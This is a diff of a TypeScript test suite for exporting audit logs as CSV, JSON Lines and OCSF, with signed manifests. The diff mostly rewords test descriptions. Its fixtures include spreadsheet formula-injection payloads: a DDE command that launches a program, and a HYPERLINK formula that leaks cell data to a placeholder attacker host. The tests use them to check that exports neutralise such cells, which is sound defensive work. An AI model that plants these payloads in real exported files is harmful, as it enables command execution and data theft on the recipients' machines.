@@ -19,7 +19,7 @@ import { ocsfEvent } from '../testing/ocsf-event.js';
 import { verifyFile } from '../verification/verify-file.js';
 import { WriteExport } from './write-export.js';
 
-/** What a spreadsheet would run, call or follow if it stood at the beginning of a cell. */
+/** Texts that a spreadsheet would execute or follow at the beginning of a cell. */
 const FORMULAS = [
   `=cmd|' /C calc'!A0`,
   '=HYPERLINK("https://evil.test/?"&A1,"click")',
@@ -45,7 +45,7 @@ const TEXTS = [
   ...fc.sample(fc.string({ unit: 'binary', minLength: 1 }), { seed: 3, numRuns: 40 }),
 ].map((text) => text.replaceAll('\0', '').replaceAll(/\p{Surrogate}/gu, '?') || '?');
 
-/** A chain in which every text that can come from outside holds something of the corpus. */
+/** A chain in which every text from outside contains something of the corpus. */
 function corpus(): readonly AuditDocument[] {
   let chain = madeUpChain(TEXTS.length);
   for (const [index, text] of TEXTS.entries()) {
@@ -98,7 +98,7 @@ describe('an export of the log', () => {
   }
 
   it.each(EXPORT_FORMATS)(
-    'L4: as %s is proved by its manifest, and reads back what was recorded',
+    'L4: as %s is proven by its manifest, and restores what was recorded',
     async (format) => {
       const { file, manifest } = await write(format);
       expect(await verdictOn(file, manifest)).toMatchObject({ intact: true, checked: chain.length });
@@ -113,7 +113,7 @@ describe('an export of the log', () => {
     },
   );
 
-  it('L4: holds no cell in which a spreadsheet sees a formula, and says by a quote which it has changed', async () => {
+  it('L4: contains no cell that a spreadsheet takes for a formula, and marks changed cells by an apostrophe', async () => {
     const { text } = await write('csv');
     expect((await write('csv-excel')).text).toBe(`\uFEFF${text}`);
     const { data, errors } = Papa.parse<string[]>(text, { newline: '\n', skipEmptyLines: true });
@@ -128,7 +128,7 @@ describe('an export of the log', () => {
     }
   });
 
-  it('L4: as JSON Lines is a document in each line, as any tool reads it', async () => {
+  it('L4: as JSON Lines has one document in each line, readable by any tool', async () => {
     const { text } = await write('jsonl');
     expect(
       text
@@ -138,7 +138,7 @@ describe('an export of the log', () => {
     ).toEqual(chain);
   });
 
-  it('L4: as OCSF has in each event what its class asks for, and the document in it', async () => {
+  it('L4: as OCSF gives in each event the attributes that its class requires, and the document', async () => {
     const { text } = await write('ocsf');
     const events = text
       .trimEnd()
@@ -155,28 +155,28 @@ describe('an export of the log', () => {
     });
   });
 
-  it('L4: of a selection holds that and nothing else, and says that it is one', async () => {
+  it('L4: of a selection contains only that selection, and says so', async () => {
     const { file, manifest } = await write('jsonl', { actorKind: 'account' });
     const selected = chain.filter(({ actor }) => actor.kind === 'account');
     expect(manifest).toMatchObject({ count: selected.length, firstSequence: 2, contiguous: false });
     expect(await verdictOn(file, manifest)).toMatchObject({ intact: true, checked: selected.length });
   });
 
-  it('L4: takes whatever is searched for as a value', async () => {
+  it('L4: treats every search text as a value', async () => {
     for (const text of TEXTS) {
       const { manifest } = await write('jsonl', { correlationId: text });
       expect(manifest.count).toBe(chain.filter(({ correlationId }) => correlationId === text).length);
     }
   });
 
-  it('L4: ends with the last record that was there when it was ordered, and can be empty', async () => {
+  it('L4: ends with the last record at the time of the order, and can be empty', async () => {
     expect((await write('csv', {}, 3)).manifest).toMatchObject({ count: 3, lastSequence: 3 });
     const { manifest, file } = await write('csv', { correlationId: 'of nobody' });
     expect(manifest).toMatchObject({ count: 0, firstSequence: null, lastSequence: null, anchors: [] });
     expect(await verdictOn(file, manifest)).toMatchObject({ intact: true, checked: 0 });
   });
 
-  it('L3, L4: of a log that somebody has cut says so under its signature, so that the cut is not signed for', async () => {
+  it('L3, L4: of a truncated log is marked as unproven in the signed manifest, which so does not vouch for the gap', async () => {
     const cut = `update audit.chain c set last_sequence = 3, last_hash = r.hash, head = null
       from audit.record r where r.tenant_id = c.tenant_id and r.sequence = 3`;
     const { file, manifest } = await write('jsonl', {}, 3);
